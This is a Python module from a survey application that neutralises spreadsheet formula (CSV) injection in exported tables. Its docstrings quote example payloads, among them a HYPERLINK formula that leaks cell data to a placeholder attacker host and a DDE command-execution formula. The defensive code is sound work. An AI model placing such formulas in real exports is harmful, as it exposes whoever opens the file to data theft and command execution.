"""Spreadsheet-safe cells: text that a spreadsheet would run as a formula is made plain text.

A respondent's proposal is free text, and a CSV or SPSS file of it is opened in Excel,
LibreOffice or Google Sheets, which read a cell beginning with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return, after which they may look for one) as a formula:
``=HYPERLINK("https://evil.example/?"&A2, "click")`` would run on the researcher's
machine. As OWASP recommends against this "CSV injection", such a cell gets a single
quote in front (``'=1+1``), which the spreadsheet shows as text. Numbers stay numbers:
numeric columns are left alone, and so is text that is just a number (``-3``,
``+1.5``), which a spreadsheet reads as that number and nothing else.

Every writer of a table a person opens goes through `neutralise_table`: the ``.csv`` and
``.sav`` responses (`valign.survey.data`, also behind ``/admin/export.*``) and
``consensus.csv`` (`valign.survey.export`). The JSON export keeps the text as it was
written: JSON is not read as formulas.

Example:
    >>> [neutralise_cell(v) for v in ["=1+1", "\\t=1+1", "-3", "@SUM(A1)", "fine", 7]]
    ["'=1+1", "'\\t=1+1", '-3', "'@SUM(A1)", 'fine', 7]
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise_cell", "restore_cell", "neutralise_table"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading single quote when it is text a spreadsheet would read as
    a formula; anything else (numbers, missing values, other text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore_cell(text: str) -> str:
    """Undo `neutralise_cell` on text read back from a file valign wrote (a Polis import of
    valign's own export): the leading quote goes only where `neutralise_cell` put it.

    Example:
        >>> restore_cell(neutralise_cell("=1+1")), restore_cell("'-3"), restore_cell("'quoted'")
        ('=1+1', "'-3", "'quoted'")
    """
    rest = text[1:]
    return rest if text.startswith("'") and neutralise_cell(rest) == text else text


def neutralise_table(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells are `neutralise_cell`-ed (numeric, boolean and
    time columns are not touched).

    Example:
        >>> import pandas as pd
        >>> neutralise_table(pd.DataFrame({"text": ["=cmd|' /C calc'!A0", "ok"], "n": [-1, 2]})).to_dict("list")
        {'text': ["'=cmd|' /C calc'!A0", 'ok'], 'n': [-1, 2]}
    """
    out = table.copy()
    for col in out.columns:
        dtype = out[col].dtype
        if dtype == object or str(dtype).startswith(("str", "string", "category")):
            out[col] = out[col].astype(object).map(neutralise_cell, na_action="ignore")
    return out
